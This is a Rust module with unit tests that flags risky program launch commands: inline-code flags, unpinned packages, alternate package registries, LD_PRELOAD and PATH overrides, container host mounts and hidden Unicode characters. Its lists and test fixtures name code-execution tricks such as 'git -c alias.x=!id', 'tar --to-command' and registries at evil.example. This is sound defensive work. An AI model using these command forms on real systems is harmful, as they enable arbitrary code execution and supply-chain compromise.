//! Forms of starting a program that can do more than they seem to. Naming them is a help for the reader of a
//! card; nothing is ever allowed because none was found.

use std::collections::BTreeSet;
use std::path::Path;

use vestibule_consent::{LaunchGap, LaunchGapKind, LaunchRisk, NamedValue, ValueDisplay};
use vestibule_protocol::is_invisible;

use super::runner::{self, SHELLS};

/// What deserves a second look in this command, beside what its [gaps](runner::code) say.
pub(super) fn find_risks(
    program: &Path,
    args: &[String],
    variables: &[NamedValue],
    gaps: &[LaunchGap],
) -> Vec<LaunchRisk> {
    let name = runner::family_name(program);
    let mut found = BTreeSet::new();
    let effects: Vec<_> = variables.iter().filter_map(|variable| variable.effect).collect();
    if effects.iter().any(|effect| effect.is_serious()) {
        found.insert(LaunchRisk::ActsOnEveryProgram);
    }
    if effects.iter().any(|effect| !effect.is_serious()) {
        found.insert(LaunchRisk::VariableChangesCode);
    }
    if runs_inline_code(&name, args) {
        found.insert(LaunchRisk::InlineCode);
    }
    if gaps.iter().any(|gap| gap.kind == LaunchGapKind::UnpinnedPackage) {
        found.insert(LaunchRisk::UnpinnedPackage);
    }
    if names_a_source(&name, args) {
        found.insert(LaunchRisk::OtherPackageSource);
    }
    if matches!(
        name.as_str(),
        "docker" | "podman" | "nerdctl" | "ssh" | "sudo" | "doas" | "wsl" | "kubectl" | "nsenter"
    ) {
        found.insert(LaunchRisk::ReachesFurther);
    }
    let texts = args.iter().chain(variables.iter().filter_map(shown));
    if texts.into_iter().any(|text| text.chars().any(is_invisible)) {
        found.insert(LaunchRisk::HiddenCharacters);
    }
    found.into_iter().collect()
}

fn shown(variable: &NamedValue) -> Option<&String> {
    match &variable.value {
        ValueDisplay::Shown { text } => Some(text),
        ValueDisplay::Masked { .. } | ValueDisplay::Hidden => None,
    }
}

/// Programs that run code or another program named in their arguments.
const RUN_ANYTHING: [&str; 17] = [
    "env",
    "xargs",
    "osascript",
    "eval",
    "busybox",
    "script",
    "awk",
    "gawk",
    "mawk",
    "timeout",
    "nohup",
    "nice",
    "ionice",
    "setsid",
    "stdbuf",
    "flock",
    "make",
];
/// Flags of Node.js and Bun that take code, or a module to load before the program.
const NODE_FLAGS: [&str; 11] = [
    "-e",
    "--eval",
    "-p",
    "--print",
    "-pe",
    "-r",
    "--require",
    "--import",
    "--loader",
    "--experimental-loader",
    "--preload",
];

/// A shell, an interpreter that is handed code, or a program that runs another one named in its arguments.
fn runs_inline_code(name: &str, args: &[String]) -> bool {
    if SHELLS.contains(&name) || RUN_ANYTHING.contains(&name) {
        return true;
    }
    let flags: &[&str] = match name {
        "npx" | "npm" | "pnpm" | "yarn" => &["-c", "--call", "exec"],
        "node" | "bun" => &NODE_FLAGS,
        "deno" => &["eval", "-"],
        "perl" | "ruby" | "lua" | "luajit" | "julia" | "rscript" => &["-e", "-E"],
        "php" => &["-r"],
        "find" => &["-exec", "-execdir", "-ok"],
        "rg" => &["--pre"],
        "git" => &["-c"],
        "tar" => &["--to-command", "--checkpoint-action"],
        "python" => &["-c", "-"],
        _ => &[],
    };
    args.iter().any(|arg| flags.iter().any(|flag| is_flag(arg, flag)))
}

/// A package runner with an explicit package source.
fn names_a_source(name: &str, args: &[String]) -> bool {
    let is_source = |arg: &String| runner::SOURCE_FLAGS.iter().any(|flag| is_flag(arg, flag));
    matches!(
        name,
        "npx" | "npm" | "pnpm" | "pnpx" | "yarn" | "bunx" | "bun" | "uv" | "uvx" | "pipx" | "dnx"
    ) && args.iter().any(is_source)
}

/// The flag itself, the flag with its value attached (`--eval=…`, `-e…` for single letters), or single letters
/// in one (`-ic`).
fn is_flag(arg: &str, flag: &str) -> bool {
    if arg == flag || arg.strip_prefix(flag).is_some_and(|rest| rest.starts_with('=')) {
        return true;
    }
    let single = flag.len() == 2 && flag.starts_with('-');
    single && !arg.starts_with("--") && arg.starts_with('-') && arg[1..].contains(&flag[1..])
}

#[cfg(test)]
mod tests {
    use super::*;

    fn risks(line: &str) -> Vec<LaunchRisk> {
        let mut words = line.split(' ').map(str::to_owned);
        let program = format!("/usr/bin/{}", words.next().unwrap());
        let args: Vec<_> = words.collect();
        let code = runner::code(Path::new(&program), &args, Path::new("/"));
        find_risks(Path::new(&program), &args, &[], &code.gaps)
    }

    fn with(name: &str, value: &str) -> Vec<LaunchRisk> {
        let variable = NamedValue {
            name: name.into(),
            effect: vestibule_policy::variable_effect(name),
            value: ValueDisplay::Shown { text: value.into() },
        };
        find_risks(Path::new("/usr/bin/notes"), &[], &[variable], &[])
    }

    /// Shows LS-004.
    #[test]
    fn code_on_the_command_line_is_named_in_every_form() {
        for line in [
            "npx -c id",
            "npx --call=id",
            "npm exec evil",
            "node -e 1",
            "node --eval=1",
            "node -pe 1",
            "node -r ./x.js s.js",
            "bun -e 1",
            "deno eval 1",
            "python -c 1",
            "python3.11 -c 1",
            "python3 -ic 1",
            "perl -e 1",
            "ruby -e 1",
            "php -r 1",
            "bash -lc id",
            "sh -c id",
            "zsh x",
            "dash -c id",
            "fish -c id",
            "env -S id",
            "env FOO=1 id",
            "xargs id",
            "osascript -e x",
            "cmd /c dir",
            "pwsh -Command x",
            "find . -exec id",
            "rg --pre id",
            "git -c alias.x=!id x",
            "tar --to-command=id",
            "busybox sh",
            "awk BEGIN",
            "perl -ne 1",
            "nodejs -e 1",
            "perl5.36 -e 1",
            "php8.2 -r 1",
            "node --loader ./x.mjs s.js",
            "node --experimental-loader=./x.mjs s.js",
            "timeout 5 id",
            "nohup id",
            "nice id",
            "setsid id",
            "stdbuf -o0 id",
            "flock /tmp/x id",
            "make serve",
            "julia -e 1",
            "Rscript -e 1",
        ] {
            assert!(risks(line).contains(&LaunchRisk::InlineCode), "{line}");
        }
    }

    #[test]
    fn an_ordinary_command_is_not_made_to_look_dangerous() {
        for line in [
            "npx -y @acme/notes@1.4.2",
            "node server.js --port 3",
            "uvx mcp-server-time==2026.10.19",
            "python3 -m notes",
            "notes-server --config x",
            "npx -y ./local",
        ] {
            assert_eq!(risks(line), [], "{line}");
        }
    }

    /// Shows LS-004.
    #[test]
    fn a_package_without_a_fixed_version_is_named() {
        for line in [
            "npx -y @acme/notes",
            "npx notes@latest",
            "npx notes@^1.2.3",
            "uvx mcp-server-time",
            "pipx run notes",
            "pnpm dlx notes",
            "bunx notes@1",
            "uv tool run notes",
            "npx --package=evil good@1.0.0",
            "uvx --from=evil x==1.0.0",
            "uvx --from git+https://evil.example/x@1.2.3 x",
        ] {
            assert_eq!(risks(line), [LaunchRisk::UnpinnedPackage], "{line}");
        }
    }

    #[test]
    fn a_package_source_in_the_command_is_named() {
        for line in [
            "npx --registry=https://evil.example good@1.0.0",
            "uvx --index-url https://evil.example x==1.0.0",
        ] {
            assert!(risks(line).contains(&LaunchRisk::OtherPackageSource), "{line}");
        }
    }

    #[test]
    fn a_variable_that_changes_what_runs_is_named_by_how_far_it_goes() {
        assert_eq!(with("LD_PRELOAD", "/tmp/x.so"), [LaunchRisk::ActsOnEveryProgram]);
        assert_eq!(with("PATH", "/tmp"), [LaunchRisk::ActsOnEveryProgram]);
        assert_eq!(
            with("NODE_OPTIONS", "--import x"),
            [LaunchRisk::VariableChangesCode]
        );
        assert_eq!(
            with("HTTPS_PROXY", "http://evil"),
            [LaunchRisk::VariableChangesCode]
        );
        assert_eq!(with("PORT", "80"), []);
    }

    /// Shows LS-004.
    #[test]
    fn what_reaches_beyond_the_folder_and_what_hides_is_named() {
        assert_eq!(risks("docker run -v /:/host img"), [LaunchRisk::ReachesFurther]);
        assert_eq!(risks("server a\u{202e}b"), [LaunchRisk::HiddenCharacters]);
    }
}
